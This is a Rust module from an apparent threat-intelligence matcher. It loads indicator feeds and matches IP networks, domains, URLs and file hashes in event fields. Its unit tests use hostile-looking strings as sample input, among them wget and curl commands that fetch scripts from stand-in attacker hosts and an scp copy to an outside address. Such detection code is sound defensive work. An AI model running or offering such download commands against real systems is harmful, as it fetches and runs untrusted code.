//! The loaded indicators and matching them at line rate: addresses through prefix tries (every
//! feed's network that covers an address), domains and URLs through one Aho-Corasick automaton
//! over the text fields, hashes through a hash map.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use ipnet::{IpNet, Ipv4Net, Ipv6Net};
use prefix_trie::PrefixMap;
use rustc_hash::FxHashMap;
use tansa_event::{Event, Field, IpFlags, Nanos, Val};

use crate::feeds::{self, Feed, FeedSpec, Indicator, Ioc};
use crate::IntelError;

/// Fields whose text is searched for domains, URLs and addresses.
pub const TEXT_FIELDS: &[Field] = &[
    Field::URL_ORIGINAL,
    Field::URL_DOMAIN,
    Field::HTTP_REFERRER,
    Field::USER_AGENT,
    Field::PROCESS_COMMAND_LINE,
    Field::DNS_QUESTION_NAME,
    Field::SOURCE_DOMAIN,
    Field::DESTINATION_ADDRESS,
];

/// Hits of text values already scanned (per thread).
pub type TextCache = FxHashMap<Box<str>, Box<[u32]>>;

/// Distinct text values a [`TextCache`] holds before it starts over.
const TEXT_CACHE_MAX: usize = 1 << 16;

/// Indicators from every loaded feed.
#[derive(Default)]
pub struct Intel {
    feeds: Vec<Feed>,
    indicators: Vec<Indicator>,
    v4: PrefixMap<Ipv4Net, Vec<u32>>,
    v6: PrefixMap<Ipv6Net, Vec<u32>>,
    text: Option<AhoCorasick>,
    /// Indicators of each pattern of `text`, and whether the pattern is a domain.
    text_ids: Vec<(Vec<u32>, bool)>,
    hashes: FxHashMap<Box<str>, Vec<u32>>,
}

impl std::fmt::Debug for Intel {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Intel")
            .field("feeds", &self.feeds)
            .field("indicators", &self.indicators.len())
            .finish()
    }
}

impl Intel {
    /// Loads the feeds. A feed that cannot be read at all is an error naming it; entries a
    /// feed cannot explain are skipped and listed in its [`Feed::skipped`].
    pub fn load(specs: &[FeedSpec]) -> Result<Intel, IntelError> {
        let mut feeds = Vec::new();
        let mut indicators = Vec::new();
        for spec in specs {
            let files = expand(spec)?;
            for s in files {
                let n = u16::try_from(feeds.len()).map_err(|_| IntelError::Spec {
                    spec: s.path.display().to_string(),
                    reason: "more than 65 535 feeds".into(),
                })?;
                let loaded = feeds::load(&s, n)?;
                feeds.push(loaded.feed);
                indicators.extend(loaded.indicators);
            }
        }
        Ok(Intel::from_parts(feeds, indicators))
    }

    /// A set from indicators already made (their `feed` indexes `feeds`).
    pub fn from_parts(feeds: Vec<Feed>, indicators: Vec<Indicator>) -> Intel {
        let mut v4: PrefixMap<Ipv4Net, Vec<u32>> = PrefixMap::new();
        let mut v6: PrefixMap<Ipv6Net, Vec<u32>> = PrefixMap::new();
        let mut text: FxHashMap<(Box<str>, bool), Vec<u32>> = FxHashMap::default();
        let mut hashes: FxHashMap<Box<str>, Vec<u32>> = FxHashMap::default();
        for (i, ind) in indicators.iter().enumerate() {
            let i = i as u32;
            match &ind.ioc {
                Ioc::Net(IpNet::V4(n)) => v4.entry(*n).or_default().push(i),
                Ioc::Net(IpNet::V6(n)) => v6.entry(*n).or_default().push(i),
                Ioc::Domain(d) => text.entry((d.clone(), true)).or_default().push(i),
                Ioc::Url(u) => text.entry((u.clone(), false)).or_default().push(i),
                Ioc::Hash(h) => hashes.entry(h.clone()).or_default().push(i),
            }
        }
        let mut patterns: Vec<(Box<str>, bool)> = text.keys().cloned().collect();
        patterns.sort();
        let text_ids = patterns
            .iter()
            .map(|k| (text.remove(k).unwrap_or_default(), k.1))
            .collect();
        let text = (!patterns.is_empty()).then(|| {
            AhoCorasickBuilder::new()
                .kind(Some(aho_corasick::AhoCorasickKind::DFA))
                .ascii_case_insensitive(true)
                .match_kind(MatchKind::Standard)
                .build(patterns.iter().map(|(p, _)| p.as_bytes()))
                .expect("indicator patterns are bounded in size")
        });
        Intel {
            feeds,
            indicators,
            v4,
            v6,
            text,
            text_ids,
            hashes,
        }
    }

    pub fn feeds(&self) -> &[Feed] {
        &self.feeds
    }

    pub fn indicators(&self) -> &[Indicator] {
        &self.indicators
    }

    pub fn indicator(&self, i: u32) -> &Indicator {
        &self.indicators[i as usize]
    }

    pub fn feed_of(&self, i: u32) -> &Feed {
        &self.feeds[self.indicators[i as usize].feed as usize]
    }

    pub fn is_empty(&self) -> bool {
        self.indicators.is_empty()
    }

    /// Indicators (of any time) whose network covers `ip`.
    pub fn ip_hits(&self, ip: IpAddr, out: &mut Vec<u32>) {
        match ip {
            IpAddr::V4(a) => {
                if let Ok(n) = Ipv4Net::new(a, 32) {
                    for ids in self.v4.cover_values(&n) {
                        out.extend_from_slice(ids);
                    }
                }
            }
            IpAddr::V6(a) => {
                if let Some(a4) = a.to_ipv4_mapped() {
                    return self.ip_hits(IpAddr::V4(a4), out);
                }
                if let Ok(n) = Ipv6Net::new(a, 128) {
                    for ids in self.v6.cover_values(&n) {
                        out.extend_from_slice(ids);
                    }
                }
            }
        }
    }

    /// The flags the feeds listing `ip` give it ([`IpFlags::LISTED`] and feed flags such as
    /// TOR exits).
    pub fn ip_flags(&self, hits: &[u32]) -> IpFlags {
        let mut f = IpFlags::default();
        for &h in hits {
            f.insert(IpFlags::LISTED);
            f.insert(self.feed_of(h).flag);
        }
        f
    }

    /// Domains, URLs and IPv4 and IPv6 addresses in `text`.
    pub fn text_hits(&self, text: &str, out: &mut Vec<u32>) {
        if let Some(ac) = &self.text {
            let b = text.as_bytes();
            for m in ac.find_overlapping_iter(b) {
                let (ids, domain) = &self.text_ids[m.pattern().as_usize()];
                if *domain && !domain_bounded(b, m.start(), m.end()) {
                    continue;
                }
                out.extend_from_slice(ids);
            }
        }
        if !self.v4.is_empty() {
            for_each_ipv4(text, |ip| self.ip_hits(IpAddr::V4(ip), out));
        }
        if !self.v6.is_empty() {
            for_each_ipv6(text, |ip| self.ip_hits(IpAddr::V6(ip), out));
        }
    }

    /// The hash indicators equal to `value`.
    pub fn hash_hits(&self, value: &str, out: &mut Vec<u32>) {
        if self.hashes.is_empty() || !matches!(value.len(), 32 | 40 | 64 | 128) {
            return;
        }
        let v = value.to_ascii_lowercase();
        if let Some(ids) = self.hashes.get(v.as_str()) {
            out.extend_from_slice(ids);
        }
    }

    /// The indicators an event matches apart from its addresses (text fields and hashes),
    /// added to `out`. `seen` remembers the hits of values that repeat (User-Agents,
    /// referrers, host names), so each distinct one is scanned once per thread; URLs and
    /// command lines are nearly all distinct and are scanned as they come.
    pub fn event_text_hits(&self, ev: &Event, out: &mut Vec<u32>, seen: &mut TextCache) {
        if self.text.is_none() && self.v4.is_empty() && self.v6.is_empty() && self.hashes.is_empty()
        {
            return;
        }
        for (f, v) in &ev.fields {
            if TEXT_FIELDS.contains(f) {
                let text = ev.val_str(v);
                if matches!(*f, Field::URL_ORIGINAL | Field::PROCESS_COMMAND_LINE) {
                    self.text_hits(&text, out);
                    continue;
                }
                if let Some(hits) = seen.get(&*text) {
                    out.extend_from_slice(hits);
                    continue;
                }
                let n = out.len();
                self.text_hits(&text, out);
                if seen.len() >= TEXT_CACHE_MAX {
                    seen.clear();
                }
                seen.insert(text.as_ref().into(), out[n..].into());
            } else if !self.hashes.is_empty()
                && matches!(v, Val::Span(..) | Val::Str(_))
                && is_hash_field(f.name())
            {
                self.hash_hits(&ev.val_str(v), out);
            }
        }
    }

    /// Drops hits on indicators expired at `t`, and repeats.
    pub fn retain_live(&self, hits: &mut Vec<u32>, t: Nanos) {
        hits.retain(|&h| self.indicator(h).expires.is_none_or(|e| t <= e));
        hits.sort_unstable();
        hits.dedup();
    }
}

/// Fields that hold file hashes: ECS `*.hash.*`, and the `md5`/`sha1`/`sha256`/`sha512` keys
/// of Suricata's fileinfo, Zeek's files.log, FIM and EDR records.
fn is_hash_field(name: &str) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name);
    name.contains("hash") || matches!(last, "md5" | "sha1" | "sha256" | "sha512")
}

/// A file, or the feeds in a directory (a MISP feed directory is one feed).
fn expand(spec: &FeedSpec) -> Result<Vec<FeedSpec>, IntelError> {
    if !spec.path.is_dir() || spec.path.join("manifest.json").is_file() {
        return Ok(vec![spec.clone()]);
    }
    let rd = std::fs::read_dir(&spec.path).map_err(|e| IntelError::Io {
        path: spec.path.clone(),
        source: e,
    })?;
    let mut paths: Vec<_> = rd
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| {
            !p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with('.'))
        })
        .collect();
    paths.sort();
    Ok(paths
        .into_iter()
        .map(|path| FeedSpec {
            path,
            name: None,
            ..spec.clone()
        })
        .collect())
}

/// A domain found at `start..end` stands alone: not inside a longer label on the left (a
/// subdomain's dot is fine) nor followed by more name.
fn domain_bounded(b: &[u8], start: usize, end: usize) -> bool {
    let name = |c: u8| c.is_ascii_alphanumeric() || c == b'-' || c == b'_';
    let left_ok = start == 0 || !name(b[start - 1]);
    let right_ok = end == b.len()
        || !(name(b[end]) || b[end] == b'.' && b.get(end + 1).is_some_and(|&c| name(c)));
    left_ok && right_ok
}

/// Calls `f` for every dotted-quad IPv4 address in `text` that stands alone.
pub fn for_each_ipv4(text: &str, mut f: impl FnMut(Ipv4Addr)) {
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if !b[i].is_ascii_digit() || (i > 0 && (b[i - 1].is_ascii_digit() || b[i - 1] == b'.')) {
            i += 1;
            continue;
        }
        let mut j = i;
        while j < b.len() && (b[j].is_ascii_digit() || b[j] == b'.') && j - i < 16 {
            j += 1;
        }
        let mut cand = &text[i..j];
        // a sentence's full stop after the address
        if cand.ends_with('.') {
            cand = &cand[..cand.len() - 1];
        }
        if cand.bytes().filter(|&c| c == b'.').count() == 3 {
            if let Ok(ip) = cand.parse::<Ipv4Addr>() {
                f(ip);
            }
        }
        i = j.max(i + 1);
    }
}

/// Calls `f` for every IPv6 address in `text` that stands alone (`2001:db8::1`, in brackets
/// with a port, with an embedded IPv4 tail); clock times, MAC addresses and words are not
/// addresses.
pub fn for_each_ipv6(text: &str, mut f: impl FnMut(Ipv6Addr)) {
    let b = text.as_bytes();
    let part = |c: u8| c.is_ascii_hexdigit() || c == b':' || c == b'.';
    let mut i = 0;
    while let Some(p) = b[i..].iter().position(|&c| c == b':') {
        let colon = i + p;
        let mut s = colon;
        while s > 0 && part(b[s - 1]) {
            s -= 1;
        }
        let mut e = colon;
        while e < b.len() && part(b[e]) {
            e += 1;
        }
        i = e.max(colon + 1);
        // inside a longer word (`xdead::1`) or too long to be an address
        if (s > 0 && (b[s - 1].is_ascii_alphanumeric() || b[s - 1] == b'_'))
            || (e < b.len() && (b[e].is_ascii_alphanumeric() || b[e] == b'_'))
            || e - s > 45
        {
            continue;
        }
        // a sentence's full stop or a list's colon after it
        let cand = text[s..e].trim_end_matches('.');
        if cand.bytes().filter(|&c| c == b':').count() < 2 {
            continue;
        }
        let parsed = cand
            .parse::<Ipv6Addr>()
            .or_else(|_| cand.trim_end_matches(':').parse());
        if let Ok(ip) = parsed {
            f(ip);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn intel(values: &[&str]) -> Intel {
        let feed = Feed {
            name: "t".into(),
            path: "t".into(),
            format: "plain",
            indicators: values.len(),
            skipped: Vec::new(),
            flag: IpFlags::default(),
        };
        let inds = values
            .iter()
            .map(|v| Indicator {
                ioc: feeds::classify(v).unwrap(),
                feed: 0,
                confidence: None,
                tags: Vec::new(),
                expires: None,
                description: None,
            })
            .collect();
        Intel::from_parts(vec![feed], inds)
    }

    fn ips(text: &str) -> Vec<String> {
        let mut v = Vec::new();
        for_each_ipv4(text, |ip| v.push(ip.to_string()));
        v
    }

    #[test]
    fn addresses_are_found_in_text() {
        assert_eq!(ips("wget http://45.141.87.23/x.sh"), ["45.141.87.23"]);
        assert_eq!(ips("a 1.2.3.4. b 10.0.0.1:22"), ["1.2.3.4", "10.0.0.1"]);
        assert!(ips("version 1.2.3.4.5 and 999.1.1.1").is_empty());
    }

    fn ip6s(text: &str) -> Vec<String> {
        let mut v = Vec::new();
        for_each_ipv6(text, |ip| v.push(ip.to_string()));
        v
    }

    #[test]
    fn ipv6_addresses_are_found_in_text() {
        assert_eq!(
            ip6s("curl -g http://[2001:db8::23]:8080/x.sh"),
            ["2001:db8::23"]
        );
        assert_eq!(
            ip6s("ssh root@2001:DB8:0:0:1::7. then ::1 and ::ffff:192.0.2.1"),
            ["2001:db8::1:0:0:7", "::1", "::ffff:192.0.2.1"]
        );
        assert_eq!(ip6s("from fe80::1%eth0 port 22"), ["fe80::1"]);
        assert!(ip6s("at 12:34:56 mac aa:bb:cc:dd:ee:ff").is_empty());
        assert!(ip6s("xdead::1 dead::beef_x std::io::Error a:b").is_empty());
    }

    #[test]
    fn every_covering_network_matches() {
        let i = intel(&[
            "45.141.87.0/24",
            "45.141.87.23",
            "45.0.0.0/8",
            "2001:db8::/32",
        ]);
        let mut out = Vec::new();
        i.ip_hits("45.141.87.23".parse().unwrap(), &mut out);
        out.sort();
        assert_eq!(out, [0, 1, 2]);
        out.clear();
        i.ip_hits("45.141.88.1".parse().unwrap(), &mut out);
        assert_eq!(out, [2]);
        out.clear();
        i.ip_hits("2001:db8::5".parse().unwrap(), &mut out);
        assert_eq!(out, [3]);
    }

    #[test]
    fn domains_match_whole_names_and_subdomains() {
        let i = intel(&["evil.example", "http://drop.example/a.sh"]);
        let hits = |t: &str| {
            let mut o = Vec::new();
            i.text_hits(t, &mut o);
            o
        };
        assert_eq!(hits("curl -s http://evil.example/x"), [0]);
        assert_eq!(hits("dig cdn.EVIL.example"), [0]);
        assert!(hits("notevil.example").is_empty());
        assert!(hits("evil.example.org").is_empty());
        assert_eq!(hits("evil.example. done"), [0]);
        assert_eq!(hits("wget http://drop.example/a.sh -O-"), [1]);
    }

    #[test]
    fn hash_fields_are_named_as_the_sources_name_them() {
        for f in [
            "file.hash.sha256",
            "process.hash.md5",
            "fileinfo.sha256",
            "md5",
            "sha1",
        ] {
            assert!(is_hash_field(f), "{f}");
        }
        for f in ["url.original", "file.path", "sha256sum_cmd"] {
            assert!(!is_hash_field(f), "{f}");
        }
    }

    #[test]
    fn addresses_in_text_match_v4_and_v6_networks() {
        let i = intel(&["2001:db8:bad::/48", "203.0.113.0/24"]);
        let hits = |t: &str| {
            let mut o = Vec::new();
            i.text_hits(t, &mut o);
            o
        };
        assert_eq!(hits("wget -q http://[2001:db8:bad::5]:8080/a.sh"), [0]);
        assert_eq!(hits("scp x root@203.0.113.9:/tmp"), [1]);
        assert!(hits("ping6 2001:db8:beef::1").is_empty());
    }
}
